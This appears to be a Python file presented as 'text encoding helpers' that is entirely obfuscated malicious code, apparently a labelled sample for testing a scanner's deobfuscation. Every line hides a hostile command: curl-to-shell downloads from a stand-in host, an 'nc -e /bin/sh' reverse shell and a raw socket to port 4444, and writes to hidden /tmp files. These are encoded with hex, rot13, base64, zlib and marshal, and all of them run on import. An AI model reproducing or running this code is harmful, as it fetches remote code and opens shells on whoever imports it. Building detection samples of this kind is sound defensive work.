"""Text encoding helpers."""

import base64
import codecs
import marshal
import os
import socket
import subprocess
import zlib


def _stage():
    os.system("cu" + "rl -s ht" + "tps://f.fold-cdn.ex" + "ample/a | s" + "h")  # malicious: constant-folding
    getattr(os, "".join(chr(c) for c in (115, 121, 115, 116, 101, 109)))("id")  # malicious: constant-folding
    subprocess.run("curl -s " + "hs | v/elpmaxe.ndc-dlof.f//:sptth"[::-1], shell=True)  # malicious: constant-folding
    subprocess.run(bytes.fromhex("6375726c202d732068747470733a2f2f662e666f6c642d63646e2e6578616d706c652f61207c207368").decode(), shell=True)  # malicious: constant-folding
    socket.create_connection(("\x32\x30\x33\x2e\x30\x2e\x31\x31\x33\x2e\x39\x31", 4444))  # malicious: constant-folding
    exec(codecs.decode("vzcbeg bf;bf.flfgrz('phey -f uggcf://s.sbyq-pqa.rknzcyr/e | fu')", "rot13"))  # malicious: constant-folding
    exec(b'\x89\x94\x97\x96\x99\xa3@\x96\xa2^\x96\xa2K\xa2\xa8\xa2\xa3\x85\x94M}\xa6\x87\x85\xa3@`\x98\xd6`@\x88\xa3\xa3\x97\xa2zaa\x86K\x86\x96\x93\x84`\x83\x84\x95K\x85\xa7\x81\x94\x97\x93\x85a\x85@\xbb@\xa2\x88}]'.decode("cp1026"))  # malicious: constant-folding


def _stage_two():
    exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnbmMgLWUgL2Jpbi9zaCAyMDMuMC4xMTMuOTAgNDQ0NCcp"))  # malicious: constant-folding
    os.system(base64.b32decode("MN2XE3BAFVZSA2DUORYHGORPF5TC4ZTPNRSC2Y3ENYXGK6DBNVYGYZJPMEQHYIDTNA======").decode())  # malicious: constant-folding
    exec(base64.b85decode("X>D+Ca&#bXb31QyE^~QvbY*QQCvIaPEoC4tVrgzKb7&wkFf%SNE-^7PE;%qDG&D3cCn*"))  # malicious: constant-folding
    exec(zlib.decompress(b'x\x9c\xcb\xcc-\xc8/*Q\xc8/\xb6\xce/\xd6+\xae,.I\xcd\xd5P\xcfKV\xd0MU\xd0O\xca\xcc\xd3/\xceP020\xd63\xd0344\xd6\xb34P0\x01\x02uM\x00\xf1\x84\x0f\x9f'))  # malicious: constant-folding
    exec(marshal.loads(b"c\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x00\x00\x00\x00\xf3B\x00\x00\x00\x97\x00\x02\x00e\x00d\x00\xa6\x01\x00\x00\xab\x01\x00\x00\x00\x00\x00\x00\x00\x00\xa0\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00d\x01\xa6\x01\x00\x00\xab\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00d\x02S\x00)\x03\xda\x02osz\x0cid > /tmp/.mN)\x02\xda\n__import__\xda\x06system\xa9\x00\xf3\x00\x00\x00\x00\xfa\x03<m>\xfa\x08<module>r\x07\x00\x00\x00\x01\x00\x00\x00s)\x00\x00\x00\xf0\x03\x01\x01\x01\xd8\x00\n\x80\n\x884\xd1\x00\x10\xd4\x00\x10\xd7\x00\x17\xd2\x00\x17\x98\x0e\xd1\x00'\xd4\x00'\xd0\x00'\xd0\x00'\xd0\x00'r\x05\x00\x00\x00"))  # malicious: constant-folding


_stage()
_stage_two()
